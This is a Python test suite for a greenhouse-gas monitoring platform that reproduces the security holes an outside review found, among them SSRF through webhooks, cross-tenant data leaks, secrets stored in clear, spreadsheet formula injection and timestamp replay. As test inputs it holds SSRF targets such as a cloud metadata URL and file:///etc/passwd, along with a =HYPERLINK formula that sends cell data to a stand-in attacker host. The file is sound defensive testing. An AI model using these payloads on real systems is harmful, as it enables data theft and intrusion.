"""Issue 12: each hole the outside review found, reproduced. Every test here failed before its fix.

Holes 8, 9 and 14 (accounts, rate limits, audit) and 13 (compose mosquitto) are covered elsewhere.
"""

from __future__ import annotations

import asyncio
import io
import json
import stat
import time
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest
from sqlalchemy import select, text

from ghgwatch.alerts.notify import webhook
from ghgwatch.analytics import repository
from ghgwatch.analytics.models import ModelStatus, RegisteredModel
from ghgwatch.ingest.auth import DeviceAuthenticator, signature_for
from ghgwatch.inventory.models import MineMethane
from ghgwatch.kit.problems import Problem
from ghgwatch.observability import metrics
from ghgwatch.registry.models import Sensor
from ghgwatch.security import service
from ghgwatch.security.models import Role
from ghgwatch.security.principal import SYSTEM
from ghgwatch.settings import build_settings
from ghgwatch.store import Database
from tests.conftest import World, build_world

PUBLIC_TARGET = "https://93.184.216.34/hook"  # a literal public address: no name to resolve in the sandbox


async def _sensor_of(world: World, organization_id: int) -> int:
    async with world.db.sessions() as s:
        return int((await s.execute(select(Sensor.id).where(Sensor.organization_id == organization_id))).scalar_one())


# -- hole 1: model names across organisations ----------------------------------------------------------------------

async def _model(db: Database, name: str, organization_id: int, sensor_id: int, status: ModelStatus) -> int:
    async with db.transaction() as s:
        model = await repository.add_model(
            s, name=name, kind="forecast", organization_id=organization_id, sensor_id=sensor_id,
            input_sensor_ids=[], method="naive", resolution="1m", data_start=datetime(2026, 1, 1, tzinfo=UTC),
            data_end=datetime(2026, 1, 2, tzinfo=UTC), trained_by="test")
        model.status = status.value
        return model.id


async def test_hole1_another_organisations_model_name_is_refused_and_never_retired(world: World) -> None:
    sensor_b = await _sensor_of(world, world.org_b)
    promoted_a = await _model(world.db, "shaft-forecast", world.org_a, world.sensor_a, ModelStatus.PROMOTED)
    engineer_b = await world.login(Role.ENGINEER, world.org_b)

    queued = await world.client.post("/api/v1/analytics/jobs", headers=engineer_b,
                                     json={"kind": "refit", "sensor_id": sensor_b, "name": "shaft-forecast"})
    assert queued.status_code == 409, queued.text
    assert queued.json()["errors"][0]["loc"] == ["body", "name"]
    own = await world.client.post("/api/v1/analytics/jobs", headers=engineer_b,
                                  json={"kind": "refit", "sensor_id": sensor_b, "name": "b-forecast"})
    assert own.status_code == 202, own.text

    # A same-named version of B (registered before the check existed) promoted by B leaves A's model alone.
    candidate_b = await _model(world.db, "shaft-forecast", world.org_b, sensor_b, ModelStatus.CANDIDATE)
    promoted = await world.client.post(f"/api/v1/analytics/models/{candidate_b}/promote", headers=engineer_b)
    assert promoted.status_code == 200, promoted.text
    async with world.db.sessions() as s:
        assert (await s.get(RegisteredModel, promoted_a)).status == ModelStatus.PROMOTED.value  # type: ignore[union-attr]


# -- hole 2: webhooks to internal addresses, answers echoed ---------------------------------------------------------

@pytest.mark.parametrize("target", ["http://127.0.0.1:8080/admin", "http://169.254.169.254/latest/meta-data/",
                                    "http://10.0.0.5/hook", "http://[::1]:9000/", "http://localhost:5432/",
                                    "file:///etc/passwd"])
async def test_hole2_webhook_routes_to_internal_addresses_are_refused(world: World, target: str) -> None:
    admin = await world.login(Role.ADMIN, world.org_a)
    body = {"name": "r", "channel": "webhook", "target": target}
    created = await world.client.post("/api/v1/notification-routes", headers=admin, json=body)
    assert created.status_code == 422, created.text
    assert created.json()["errors"][0]["loc"][-1] == "target"

    good = await world.client.post("/api/v1/notification-routes", headers=admin,
                                   json=body | {"target": PUBLIC_TARGET})
    assert good.status_code == 201, good.text
    patched = await world.client.patch(f"/api/v1/notification-routes/{good.json()['id']}", headers=admin,
                                       json={"target": target})
    assert patched.status_code == 422, patched.text


async def test_hole2_private_targets_need_the_administrators_setting(tmp_path: Path, db_url: str, db: Database) -> None:
    from ghgwatch.web import create_app

    settings = build_settings(data_dir=tmp_path / "data", db={"url": db_url},
                              security={"jwt_secret": "test-secret-key-that-is-long-enough-for-hs256",
                                        "allow_private_targets": True})
    app = create_app(settings, db=db)
    async with app.router.lifespan_context(app), httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app), base_url="http://test") as client:
        world = await build_world(client, db)
        admin = await world.login(Role.ADMIN, world.org_a)
        created = await client.post("/api/v1/notification-routes", headers=admin,
                                    json={"name": "on-prem", "channel": "webhook", "target": "http://10.0.0.5/hook"})
        assert created.status_code == 201, created.text


async def test_hole2_the_receivers_answer_is_never_echoed() -> None:
    def internal_service(request: httpx.Request) -> httpx.Response:
        return httpx.Response(500, text="root:x:0:0:root:/root:/bin/bash internal-page")

    async with httpx.AsyncClient(transport=httpx.MockTransport(internal_service)) as client:
        attempt = await webhook.post(client, "http://receiver.example/hook", b"{}", None, 5.0)
    assert not attempt.ok and attempt.code == 500
    assert attempt.error == "HTTP 500"


async def test_notification_route_facility_must_be_the_routes_organisation(world: World) -> None:
    admin = await world.login(Role.ADMIN, world.org_a)
    created = await world.client.post("/api/v1/notification-routes", headers=admin, json={
        "name": "r", "channel": "webhook", "target": PUBLIC_TARGET, "facility_id": world.facility_b})
    assert created.status_code == 422, created.text
    assert created.json()["errors"][0]["loc"][-1] == "facility_id"


# -- hole 3: MQTT dead letters written into another organisation's queue --------------------------------------------

@pytest.mark.mqtt
async def test_hole3_mqtt_dead_letters_go_to_the_senders_organisation(tmp_path: Path, db_url: str,
                                                                        db: Database) -> None:
    import aiomqtt

    from tests.ingest.conftest import _platform
    from tests.support.mosquitto import running_mosquitto

    del db
    # The shipped mosquitto now refuses such a topic itself (tests/security/test_mqtt_broker.py). The bridge must
    # not trust the broker for it: here a broker without any ACL (anonymous, as someone's own broker may be) lets
    # it through, and the bridge still files it as a dead letter of the sender's organisation, never of A's.
    # Device ids start at 1: device 1 is organisation A's (made by the platform fixture), device 2 is B's.
    with running_mosquitto(None) as port:
        url = f"mqtt://ghgwatch-bridge:bridge-pw@127.0.0.1:{port}"
        async for p in _platform(tmp_path, db_url, "embedded:", mqtt_url=url):
            await asyncio.wait_for(p.extras["mqtt_bridge"].connected.wait(), 15)
            async with p.db.transaction() as s:
                issued = await service.create_device(s, SYSTEM, organization_id=p.world.org_b, name="b's device")
            assert issued.device.id == 2
            async with aiomqtt.Client("127.0.0.1", port, username="2", password="pw-2") as device_b:
                await device_b.publish(f"ghgwatch/{p.world.org_a}/2/readings", b"pay 5 BTC to ... (B's text)", qos=1)
            platform_admin = await p.world.login(Role.ADMIN, None)
            dead = await p.wait_dead(1, platform_admin)
            assert len(dead) == 1 and dead[0]["organization_id"] == p.world.org_b, dead
            admin_a = await p.world.login(Role.ADMIN, p.world.org_a)
            seen_by_a = (await p.client.get("/api/v1/deadletter", headers=admin_a)).json()["items"]
            assert seen_by_a == []
            admin_b = await p.world.login(Role.ADMIN, p.world.org_b)
            assert len((await p.client.get("/api/v1/deadletter", headers=admin_b)).json()["items"]) == 1


# -- hole 4: mine methane rows of every organisation -----------------------------------------------------------------

async def test_hole4_mine_methane_rows_are_the_facilitys_organisations(world: World) -> None:
    async with world.db.transaction() as s:
        s.add_all([MineMethane(facility_id=world.facility_a, year=2024, absolute_m3_min=41.0, source="A's survey"),
                   MineMethane(facility_id=world.facility_b, year=2024, absolute_m3_min=17.0, source="B's survey"),
                   MineMethane(gem_mine_id="G100001", year=2024, absolute_m3_min=5.0, source="GEM")])
    # The endpoint now reads the mine reference database first; the former table's rows follow as ``legacy``.
    listed_b = await world.client.get("/api/v1/mine-methane", headers=await world.login(Role.AUDITOR, world.org_b))
    assert listed_b.status_code == 200
    assert sorted(r["source"] for r in listed_b.json() if r["legacy"]) == ["B's survey", "GEM"]
    asked = await world.client.get("/api/v1/mine-methane", params={"facility_id": world.facility_a},
                                   headers=await world.login(Role.AUDITOR, world.org_b))
    assert asked.status_code in (403, 404) and "A's survey" not in asked.text
    everything = await world.client.get("/api/v1/mine-methane", headers=await world.login(Role.ADMIN, None))
    assert len([r for r in everything.json() if r["legacy"]]) == 3


# -- hole 5: /metrics shows every organisation's live values ---------------------------------------------------------

@pytest.fixture
def private_series() -> Iterator[None]:
    labels = {"sensor": "hole5-sensor", "kind": "methane", "facility": "hole5-facility"}
    metrics.SENSOR_VALUE.labels(**labels).set(1.25)
    yield None
    metrics.SENSOR_VALUE.remove(*labels.values())


async def test_hole5_metrics_without_login_leave_out_per_sensor_series(client: httpx.AsyncClient,
                                                                       private_series: None) -> None:
    del private_series
    answer = await client.get("/metrics")
    assert answer.status_code == 200
    assert "hole5-sensor" not in answer.text and "ghgwatch_sensor_value{" not in answer.text
    assert "ghgwatch_" in answer.text  # the platform's own series are still there


async def test_hole5_metrics_token_gives_the_full_exposition(tmp_path: Path, db_url: str, db: Database,
                                                             private_series: None) -> None:
    from ghgwatch.web import create_app

    del private_series
    settings = build_settings(data_dir=tmp_path / "data", db={"url": db_url},
                              security={"jwt_secret": "test-secret-key-that-is-long-enough-for-hs256"},
                              observability={"metrics_token": "scraper-token"})
    app = create_app(settings, db=db)
    async with app.router.lifespan_context(app), httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app), base_url="http://test") as client:
        assert (await client.get("/metrics")).status_code == 401
        assert (await client.get("/metrics", headers={"Authorization": "Bearer wrong"})).status_code == 401
        full = await client.get("/metrics", headers={"Authorization": "Bearer scraper-token"})
        assert full.status_code == 200 and 'sensor="hole5-sensor"' in full.text


# -- hole 6: secrets in clear (database, audit), database file world-readable ----------------------------------------

async def test_hole6_secrets_are_encrypted_at_rest_and_redacted_in_audit(world: World) -> None:
    admin = await world.login(Role.ADMIN, world.org_a)
    route = await world.client.post("/api/v1/notification-routes", headers=admin, json={
        "name": "r", "channel": "webhook", "target": PUBLIC_TARGET, "secret": "route-secret-0123456789"})
    assert route.status_code == 201, route.text
    patched = await world.client.patch(f"/api/v1/notification-routes/{route.json()['id']}", headers=admin,
                                       json={"secret": "route-secret-rotated-42"})
    assert patched.status_code == 200, patched.text
    device = await world.client.post("/api/v1/devices", headers=admin,
                                     json={"organization_id": world.org_a, "name": "gw", "require_signature": True})
    assert device.status_code == 201, device.text
    async with world.db.sessions() as s:
        hmac_secret = (await s.execute(text("SELECT hmac_secret FROM devices"))).scalar_one()
        route_secret = (await s.execute(text("SELECT secret FROM notification_routes"))).scalar_one()
        audit = [json.dumps([r.before, r.after]) for r in (await s.execute(
            text("SELECT before, after FROM audit_log"))).all()]
    assert route_secret.startswith("enc:v1:") and "route-secret" not in route_secret
    assert hmac_secret.startswith("enc:v1:")
    assert audit and not any("route-secret" in entry for entry in audit)
    # and the application still reads them back
    async with world.db.sessions() as s:
        from ghgwatch.security.models import Device

        stored = (await s.execute(select(Device))).scalar_one()
        assert not stored.hmac_secret.startswith("enc:") and len(stored.hmac_secret) >= 16


def test_hole6_sqlite_database_file_is_private(tmp_path: Path) -> None:
    import os

    from ghgwatch.store.migrate import upgrade

    old = os.umask(0o022)
    try:
        path = tmp_path / "fresh" / "ghgwatch.db"
        upgrade(f"sqlite+aiosqlite:///{path}")
        existing = tmp_path / "old.db"
        existing.write_bytes(b"")
        existing.chmod(0o644)
        upgrade(f"sqlite+aiosqlite:///{existing}")
    finally:
        os.umask(old)
    for file in (path, existing):
        assert stat.S_IMODE(file.stat().st_mode) == 0o600, file


# -- hole 7: formulas and control characters in exports --------------------------------------------------------------

async def test_hole7_exports_hold_user_text_as_text(world: World) -> None:
    from openpyxl import load_workbook

    admin = await world.login(Role.ADMIN, world.org_a)
    description = '=HYPERLINK("http://evil.example/?"&A1,"click")\x07'
    patched = await world.client.patch(f"/api/v1/facilities/{world.facility_a}", headers=admin,
                                       json={"description": description, "region": "@SUM(1+1)"})
    assert patched.status_code == 200, patched.text

    xlsx = await world.client.get("/api/v1/facilities/export", params={"format": "xlsx"}, headers=admin)
    assert xlsx.status_code == 200, xlsx.text
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    row = [c.value for c in sheet[2]]
    cells = dict(zip(header, row, strict=True))
    assert cells["description"] == "'" + description[:-1]  # text, and the bell character is gone
    assert cells["region"] == "'@SUM(1+1)"
    assert all(c.data_type != "f" for c in sheet[2])

    csv_text = (await world.client.get("/api/v1/facilities/export", params={"format": "csv"}, headers=admin)).text
    assert "'=HYPERLINK" in csv_text and "\n=HYPERLINK" not in csv_text and ",=HYPERLINK" not in csv_text


def test_hole7_safe_cells() -> None:
    from ghgwatch.kit.cells import safe_row

    assert safe_row(["=1+1", "+1", "-x", "@a", "\tx", "plain", -5, 2.5, None, "a\x00b\x1fc"]) == [
        "'=1+1", "'+1", "'-x", "'@a", "'\tx", "plain", -5, 2.5, None, "abc"]


# -- hole 10: X-Timestamp nan; replay memory per process -------------------------------------------------------------

async def _signing_device(db: Database, organization_id: int) -> tuple[str, str]:
    async with db.transaction() as s:
        issued = await service.create_device(s, SYSTEM, organization_id=organization_id, name="signer",
                                             require_signature=True)
    return issued.token, issued.device.hmac_secret


@pytest.mark.parametrize("stamp", ["nan", "NaN", "inf", "-inf", "infinity"])
async def test_hole10_non_finite_timestamps_are_refused(world: World, stamp: str) -> None:
    token, secret = await _signing_device(world.db, world.org_a)
    auth = DeviceAuthenticator(world.db)
    device = await auth.device(token)
    body = b'{"readings": []}'
    with pytest.raises(Problem) as refused:
        await auth.verify_signature(device, stamp, signature_for(secret, stamp, body), body)
    assert refused.value.status == 401


async def test_hole10_a_replay_to_another_process_is_refused(world: World) -> None:
    token, secret = await _signing_device(world.db, world.org_a)
    first, second = DeviceAuthenticator(world.db), DeviceAuthenticator(world.db)  # two API replicas
    body = b'{"readings": []}'
    stamp = str(int(time.time()))
    signature = signature_for(secret, stamp, body)
    await first.verify_signature(await first.device(token), stamp, signature, body)
    with pytest.raises(Problem) as replayed:
        await second.verify_signature(await second.device(token), stamp, signature, body)
    assert replayed.value.status == 409
    # a fresh signature still passes
    other = str(int(time.time()) + 1)
    await second.verify_signature(await second.device(token), other, signature_for(secret, other, body), body)


# -- hole 11: bodies of any size read before authentication ---------------------------------------------------------

async def test_hole11_large_bodies_are_refused_before_authentication(client: httpx.AsyncClient) -> None:
    big = b"x" * (3 * 1024 * 1024)
    declared = await client.post("/api/v1/facilities", content=big, headers={"Content-Type": "application/json"})
    assert declared.status_code == 413, declared.text

    async def chunks() -> AsyncIterator[bytes]:
        for _ in range(48):
            yield b"y" * 65536

    streamed = await client.post("/api/v1/facilities", content=chunks(), headers={"Content-Type": "application/json"})
    assert streamed.status_code == 413, streamed.text
    small = await client.post("/api/v1/facilities", content=b"{}", headers={"Content-Type": "application/json"})
    assert small.status_code == 401  # within the limit: authentication answers as before


# -- hole 12: two PATCHes leave range_min > range_max ----------------------------------------------------------------

async def test_hole12_sensor_range_stays_ordered_across_patches(world: World) -> None:
    admin = await world.login(Role.ADMIN, world.org_a)
    url = f"/api/v1/sensors/{world.sensor_a}"  # stored range 0..100
    for body in ({"range_min": 200}, {"range_max": -5}, {"range_min": 100}):
        answer = await world.client.patch(url, headers=admin, json=body)
        assert answer.status_code == 422, (body, answer.text)
    assert (await world.client.patch(url, headers=admin, json={"range_min": 10})).status_code == 200
    stored = (await world.client.get(url, headers=admin)).json()
    assert (stored["range_min"], stored["range_max"]) == (10, 100)


# -- nulls in PATCH (fuzzing found constraint errors) ----------------------------------------------------------------

async def test_patch_with_null_for_a_required_field_is_422(world: World) -> None:
    admin = await world.login(Role.ADMIN, world.org_a)
    answer = await world.client.patch(f"/api/v1/sensors/{world.sensor_a}", headers=admin, json={"name": None})
    assert answer.status_code == 422, answer.text
    route = await world.client.post("/api/v1/notification-routes", headers=admin, json={
        "name": "r", "channel": "webhook", "target": PUBLIC_TARGET})
    nulled = await world.client.patch(f"/api/v1/notification-routes/{route.json()['id']}", headers=admin,
                                      json={"target": None, "active": None})
    assert nulled.status_code == 422, nulled.text

